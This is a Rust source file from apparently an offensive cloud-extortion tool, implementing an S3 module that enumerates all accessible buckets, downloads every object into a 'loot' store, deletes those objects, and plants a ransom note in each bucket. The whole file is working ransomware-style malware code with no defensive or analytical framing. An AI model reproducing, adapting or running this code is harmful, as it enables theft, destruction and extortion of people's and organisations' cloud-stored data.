use async_trait::async_trait;
use aws_sdk_s3 as s3;
use aws_sdk_s3::primitives::ByteStream;
use tracing::{debug, info, warn};

use super::{DestroyOutcome, DrainStore, ExfilRecord};
use crate::error::{classify, with_retry, AttackError, AttackResult};
use crate::loot::LootWriter;

/// S3-backed drain target. The note object is the fixed marker name written
/// into every bucket.
pub struct BucketStore {
    client: s3::Client,
    note_object: String,
}

impl BucketStore {
    pub fn new(conf: &aws_config::SdkConfig, note_object: impl Into<String>) -> Self {
        Self {
            client: s3::Client::new(conf),
            note_object: note_object.into(),
        }
    }

    async fn list_keys(&self, bucket: &str) -> AttackResult<Vec<String>> {
        let mut keys = Vec::new();
        let mut token: Option<String> = None;
        loop {
            let resp = with_retry("list objects", || {
                let mut req = self.client.list_objects_v2().bucket(bucket);
                if let Some(t) = &token {
                    req = req.continuation_token(t);
                }
                async move { req.send().await.map_err(|e| classify("list objects", e)) }
            })
            .await?;
            for obj in resp.contents() {
                if let Some(key) = obj.key() {
                    keys.push(key.to_string());
                }
            }
            match resp.next_continuation_token() {
                Some(t) if resp.is_truncated().unwrap_or(false) => token = Some(t.to_string()),
                _ => break,
            }
        }
        Ok(keys)
    }

    async fn fetch_object(&self, bucket: &str, key: &str) -> AttackResult<Vec<u8>> {
        let resp = with_retry("get object", || {
            let req = self.client.get_object().bucket(bucket).key(key);
            async move { req.send().await.map_err(|e| classify("get object", e)) }
        })
        .await?;
        let data = resp.body.collect().await.map_err(|e| AttackError::Api {
            action: "get object",
            code: None,
            message: format!("body read failed: {e}"),
        })?;
        Ok(data.into_bytes().to_vec())
    }
}

#[async_trait]
impl DrainStore for BucketStore {
    fn kind(&self) -> &'static str {
        "s3"
    }

    async fn list_resources(&self) -> AttackResult<Vec<String>> {
        let resp = with_retry("list buckets", || {
            let req = self.client.list_buckets();
            async move { req.send().await.map_err(|e| classify("list buckets", e)) }
        })
        .await?;
        Ok(resp
            .buckets()
            .iter()
            .filter_map(|b| b.name().map(str::to_string))
            .collect())
    }

    async fn exfiltrate(&self, target: &str, loot: &mut LootWriter) -> AttackResult<ExfilRecord> {
        let mut record = ExfilRecord::new(target);
        for key in self.list_keys(target).await? {
            match self.fetch_object(target, &key).await {
                Ok(body) => {
                    let path = loot.write_object(target, &key, &body)?;
                    debug!(bucket = target, key = %key, "downloaded");
                    record.keys.push(key);
                    record.items += 1;
                    record.artifacts.push(path);
                }
                Err(e) if e.is_auth() => return Err(e),
                Err(e) => {
                    warn!(bucket = target, key = %key, error = %e, "object skipped");
                    record.failed += 1;
                }
            }
        }
        Ok(record)
    }

    async fn destroy(&self, target: &str, record: &ExfilRecord) -> AttackResult<DestroyOutcome> {
        let mut outcome = DestroyOutcome::default();
        for key in &record.keys {
            let res = with_retry("delete object", || {
                let req = self.client.delete_object().bucket(target).key(key);
                async move { req.send().await.map_err(|e| classify("delete object", e)) }
            })
            .await;
            match res {
                Ok(_) => {
                    debug!(bucket = target, key = %key, "deleted");
                    outcome.destroyed += 1;
                }
                Err(e) if e.is_auth() => return Err(e),
                Err(e) => {
                    warn!(bucket = target, key = %key, error = %e, "delete failed");
                    outcome.failed += 1;
                }
            }
        }
        Ok(outcome)
    }

    async fn annotate(&self, target: &str, message: &str) -> AttackResult<()> {
        let body = message.as_bytes().to_vec();
        with_retry("place ransom note", || {
            let req = self
                .client
                .put_object()
                .bucket(target)
                .key(&self.note_object)
                .body(ByteStream::from(body.clone()));
            async move { req.send().await.map_err(|e| classify("place ransom note", e)) }
        })
        .await?;
        info!(bucket = target, note = %self.note_object, "ransom note placed");
        Ok(())
    }
}
